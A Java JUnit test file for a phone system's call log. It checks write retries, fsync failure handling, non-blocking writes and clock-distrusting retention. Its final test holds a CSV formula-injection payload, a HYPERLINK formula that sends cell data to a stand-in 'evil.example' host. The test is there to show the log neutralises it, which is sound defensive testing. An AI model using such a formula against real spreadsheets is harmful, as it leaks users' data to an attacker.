package org.hallphone.calllog;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.channels.FileChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.hallphone.call.CallRecord;
import org.hallphone.call.Direction;
import org.hallphone.call.EndedBy;
import org.hallphone.call.Outcome;
import org.hallphone.testing.Wait;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The call log is honest when the disk is not (review findings F3, F4, F8, F15, F16): rows that cannot be
 * written are reported and retried per file on a timer, a failed fsync never gives a second row, the call flow
 * never waits for the disk, retention distrusts the clock, and a formula never reaches a spreadsheet.
 */
class CallLogHonestyTest {

    private static final ZoneId MOSCOW = ZoneId.of("Europe/Moscow");
    private static final String HEADER = CallRow.HEADER;
    private static final Duration PATIENCE = Duration.ofSeconds(20);

    @TempDir
    Path dir;

    private final MutableClock clock = new MutableClock(Instant.parse("2026-11-24T09:00:00Z"));
    private final List<CallLog> opened = new ArrayList<>();

    @AfterEach
    void closeAll() {
        opened.forEach(CallLog::close);
        opened.clear();
    }

    private CallLog direct(Disk disk) {
        CallLog callLog = new CallLog(dir, MOSCOW, clock, Writing.direct(disk));
        opened.add(callLog);
        return callLog;
    }

    private CallLog threaded(Disk disk, Duration retry) {
        CallLog callLog = new CallLog(dir, MOSCOW, clock, Writing.threaded(disk, retry));
        opened.add(callLog);
        return callLog;
    }

    private String read(String name) throws IOException {
        return Files.readString(dir.resolve(name), UTF_8);
    }

    // ---- F3: one bad day file does not hold back the others; the retry runs on a timer ----

    @Test
    void badDayFileDoesNotBlockOtherFilesAndIsReported() throws IOException {
        CallLog callLog = direct(Disk.FSYNC);
        Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
        CallRecord stuck = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
        CallRecord nextDay = SampleCalls.answered("call-2", "2026-11-25T08:00:00+03:00", 5, 60);

        callLog.callEnded(stuck);
        callLog.callEnded(nextDay);

        assertEquals(HEADER + CallRow.line(nextDay, MOSCOW), read("calls-2026-11-25.csv"),
                "the next day's row is written although an earlier row is owed");
        CallLog.Status status = callLog.status();
        assertFalse(status.ok());
        assertEquals(1, status.unwrittenRows());
        assertTrue(status.problem().contains("calls-2026-11-24.csv"), status.problem());
        assertTrue(status.writeErrors() >= 1);
        assertEquals(List.of("call-2", "call-1"),
                callLog.recent(5).stream().map(CallRecord::callId).collect(Collectors.toList()),
                "the service screen still sees the owed call");

        Files.delete(blocker);
        callLog.retryNow();

        assertEquals(HEADER + CallRow.line(stuck, MOSCOW), read("calls-2026-11-24.csv"));
        assertTrue(callLog.status().ok(), callLog.status().toString());
    }

    @Test
    void owedRowIsWrittenByTheTimerWithoutAnotherCall() throws IOException {
        CallLog callLog = threaded(Disk.FSYNC, Duration.ofMillis(200));
        Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
        callLog.callEnded(call);
        Wait.until("the row to be reported unwritten", PATIENCE, () -> callLog.status().unwrittenRows() == 1);

        Files.delete(blocker);

        Wait.until("the timer to write the owed row", PATIENCE, () -> Files.isRegularFile(blocker)
                && callLog.status().ok());
        assertEquals(HEADER + CallRow.line(call, MOSCOW), read("calls-2026-11-24.csv"));
        try (Stream<Path> markers = Files.list(dir.resolve("inprogress"))) {
            assertEquals(0, markers.count(), "the marker goes once the row is on disk");
        }
    }

    @Test
    void endedCallWhoseRowIsOwedIsRecoveredWithItsTrueOutcomeAfterACrash() throws IOException {
        CallLog callLog = direct(Disk.FSYNC);
        Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
        callLog.callEnded(call);
        assertEquals(call, Markers.read(dir.resolve("inprogress").resolve("call-1.marker")),
                "the marker holds the end, so a crash does not turn it into an interrupted call of hours");

        // The process dies (the in-memory row is lost); the next start writes the row from the marker.
        opened.remove(callLog);
        callLog.close();
        Files.delete(blocker);
        CallLog restarted = direct(Disk.FSYNC);
        assertEquals(1, restarted.recoverInterrupted());
        assertEquals(List.of(call), restarted.recent(5));
    }

    @Test
    void endedCallIsNoLongerHeartBeatenWhileItsRowIsOwed() throws IOException {
        CallLog callLog = direct(Disk.FSYNC);
        Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
        Path marker = dir.resolve("inprogress").resolve("call-1.marker");
        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
        Instant afterEnd = Files.getLastModifiedTime(marker).toInstant();

        clock.advance(Duration.ofHours(3));
        callLog.heartbeat();

        assertEquals(afterEnd, Files.getLastModifiedTime(marker).toInstant(),
                "a crash now must not make the call hours long");
    }

    // ---- F16: a failed fsync never writes a row twice; new folders are forced into their parents ----

    @Test
    void failedFsyncIsRetriedWithoutASecondRow() throws IOException {
        AtomicBoolean failNext = new AtomicBoolean(false);
        Disk flaky = new Disk() {
            @Override
            public void force(FileChannel channel) throws IOException {
                if (failNext.getAndSet(false)) {
                    throw new IOException("Input/output error (fsync)");
                }
                channel.force(true);
            }

            @Override
            public void forceDirectory(Path folder) throws IOException {
                Disk.FSYNC.forceDirectory(folder);
            }
        };
        CallLog callLog = direct(flaky);
        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
        failNext.set(true);
        callLog.callEnded(call);
        assertEquals(1, callLog.status().unwrittenRows(), "a row whose fsync failed is not counted as durable");

        callLog.retryNow();

        assertEquals(HEADER + CallRow.line(call, MOSCOW), read("calls-2026-11-24.csv"), "exactly one row");
        assertTrue(callLog.status().ok());
    }

    @Test
    void everyNewFolderIsForcedIntoItsParent() throws IOException {
        List<Path> forced = new ArrayList<>();
        Disk recording = new Disk() {
            @Override
            public void force(FileChannel channel) throws IOException {
                channel.force(true);
            }

            @Override
            public void forceDirectory(Path folder) throws IOException {
                forced.add(folder);
                Disk.FSYNC.forceDirectory(folder);
            }
        };
        Path nested = dir.resolve("var").resolve("calls");
        CallLog callLog = new CallLog(nested, MOSCOW, clock, Writing.direct(recording));
        opened.add(callLog);

        assertEquals(List.of(dir.toAbsolutePath(), dir.resolve("var").toAbsolutePath(), nested.toAbsolutePath()),
                forced);
    }

    @Test
    void dayFileLeftEmptyByAFailedFirstAppendGetsItsFolderForcedLater() throws IOException {
        AtomicBoolean failNext = new AtomicBoolean(false);
        List<Path> forced = new ArrayList<>();
        Disk disk = new Disk() {
            @Override
            public void force(FileChannel channel) throws IOException {
                if (failNext.getAndSet(false)) {
                    channel.truncate(0);
                    throw new IOException("No space left on device");
                }
                channel.force(true);
            }

            @Override
            public void forceDirectory(Path folder) throws IOException {
                forced.add(folder);
                Disk.FSYNC.forceDirectory(folder);
            }
        };
        CallLog callLog = direct(disk);
        forced.clear();
        failNext.set(true);
        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
        assertTrue(Files.exists(dir.resolve("calls-2026-11-24.csv")), "the failed append left the file");
        assertEquals(List.of(), forced);

        callLog.retryNow();

        assertEquals(List.of(dir.toAbsolutePath()), forced, "the folder is forced once the file has its row");
    }

    // ---- F15: the call flow never waits for the disk ----

    @Test
    void callFlowHandsOverAndReturnsWhileTheDiskHangs() throws Exception {
        CountDownLatch diskReleased = new CountDownLatch(1);
        AtomicInteger forcing = new AtomicInteger();
        Disk hung = new Disk() {
            @Override
            public void force(FileChannel channel) throws IOException {
                forcing.incrementAndGet();
                try {
                    diskReleased.await();
                } catch (InterruptedException e) {
                    throw new IOException(e);
                }
                channel.force(true);
            }

            @Override
            public void forceDirectory(Path folder) throws IOException {
                Disk.FSYNC.forceDirectory(folder);
            }
        };
        CallLog callLog = threaded(hung, Duration.ofHours(1));
        AtomicBoolean returned = new AtomicBoolean();
        Thread callFlow = new Thread(() -> {
            callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
            callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
            returned.set(true);
        }, "call-flow");
        callFlow.start();

        Wait.until("the call flow's journal calls to return while the disk hangs", PATIENCE, returned::get);
        // The writer thread may reach the fsync only after the call flow has returned (a loaded machine).
        Wait.until("the writer to be inside the first fsync", PATIENCE, () -> forcing.get() == 1);
        assertEquals(1, callLog.recent(5).size(), "the screens see the call already");
        Wait.until("the hung disk to be reported", PATIENCE.plus(CallLog.STALLED), () -> !callLog.status().ok());
        assertTrue(callLog.status().problem().contains("has not finished a call-log write"),
                callLog.status().problem());
        assertEquals(1, callLog.status().unwrittenRows());

        diskReleased.countDown();
        callLog.flush();
        assertTrue(callLog.status().ok(), callLog.status().toString());
        assertEquals(HEADER + CallRow.line(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60), MOSCOW),
                read("calls-2026-11-24.csv"));
    }

    @Test
    void writeLatencyIsReported() {
        CallLog callLog = threaded(Disk.FSYNC, Duration.ofHours(1));
        List<Duration> latencies = new java.util.concurrent.CopyOnWriteArrayList<>();
        callLog.observeWriteLatency(latencies::add);
        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
        callLog.flush();
        assertTrue(latencies.size() >= 2, latencies.toString());
        assertTrue(latencies.stream().noneMatch(Duration::isNegative));
    }

    // ---- F4: retention distrusts the clock ----

    private Path dayFile(String name, String modified) throws IOException {
        Path file = Files.writeString(dir.resolve(name), "x\n");
        Files.setLastModifiedTime(file, FileTime.from(Instant.parse(modified)));
        return file;
    }

    private List<String> names() throws IOException {
        try (Stream<Path> files = Files.list(dir)) {
            return files.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".csv")).sorted()
                    .collect(Collectors.toList());
        }
    }

    @Test
    void clockBeforeTheBuildOrTheNewestFileDeletesNothing() throws IOException {
        dayFile("calls-2026-06-01.csv", "2026-06-01T10:00:00Z");
        dayFile("calls-2026-11-20.csv", "2026-11-20T10:00:00Z");
        CallLog callLog = direct(Disk.FSYNC);

        clock.set(Instant.parse("2000-01-01T00:00:05Z")); // flat clock battery
        assertEquals(0, callLog.deleteOlderThan(30, LocalDate.parse("2026-11-01")));
        clock.set(Instant.parse("2026-11-10T00:00:05Z")); // before the build date
        assertEquals(0, callLog.deleteOlderThan(30, LocalDate.parse("2026-11-15")));
        clock.set(Instant.parse("2026-11-18T00:00:05Z")); // after the build, but before the newest file
        assertEquals(0, callLog.deleteOlderThan(30, LocalDate.parse("2026-11-01")));

        assertEquals(List.of("calls-2026-06-01.csv", "calls-2026-11-20.csv"), names());
        assertEquals(3, callLog.status().retentionRefused());
        assertEquals(0, callLog.status().filesDeleted());
    }

    @Test
    void clockFarPastTheNewestFileDeletesNothing() throws IOException {
        dayFile("calls-2026-11-01.csv", "2026-11-01T10:00:00Z");
        dayFile("calls-2026-11-20.csv", "2026-11-20T10:00:00Z");
        CallLog callLog = direct(Disk.FSYNC);

        clock.set(Instant.parse("2036-02-07T06:28:16Z")); // a time source that jumped years ahead
        assertEquals(0, callLog.deleteOlderThan(30, LocalDate.parse("2026-11-01")));

        assertEquals(List.of("calls-2026-11-01.csv", "calls-2026-11-20.csv"), names());
    }

    @Test
    void filesWrittenUnderAWrongClockOrModifiedLatelyAreKept() throws IOException {
        dayFile("calls-2000-01-01.csv", "2000-01-01T00:10:00Z"); // calls made before NTP set the clock
        dayFile("calls-2026-09-01.csv", "2026-11-23T10:00:00Z"); // old date, but written yesterday
        dayFile("calls-2026-09-02.csv", "2026-09-02T10:00:00Z"); // really old: goes
        dayFile("calls-2026-11-24.csv", "2026-11-24T08:00:00Z");
        CallLog callLog = direct(Disk.FSYNC);

        assertEquals(1, callLog.deleteOlderThan(30, LocalDate.parse("2026-11-01")));

        assertEquals(List.of("calls-2000-01-01.csv", "calls-2026-09-01.csv", "calls-2026-11-24.csv"), names());
        assertEquals(1, callLog.status().filesDeleted());
    }

    // ---- F8: a formula never reaches a spreadsheet ----

    @Test
    void formulaInACallBacksCallerIsNeutralisedAndReadsBackUnchanged() throws IOException {
        CallLog callLog = direct(Disk.FSYNC);
        String evil = "=HYPERLINK(\"http://evil.example/?\"&A2) <sip:rep@pbx>";
        OffsetDateTime start = OffsetDateTime.parse("2026-11-24T12:00:00+03:00");
        CallRecord call = new CallRecord(start, SampleCalls.TERMINAL, "call-1", Direction.IN, Outcome.ANSWERED,
                start.plusSeconds(3), start.plusSeconds(60), evil, 1, 200, EndedBy.REMOTE);

        callLog.callEnded(call);

        String row = read("calls-2026-11-24.csv").lines().skip(1).findFirst().orElseThrow();
        assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2) <sip:rep@pbx>\","), row);
        assertEquals(List.of(call), callLog.recent(5), "the service screen shows the value as it came");
    }

}
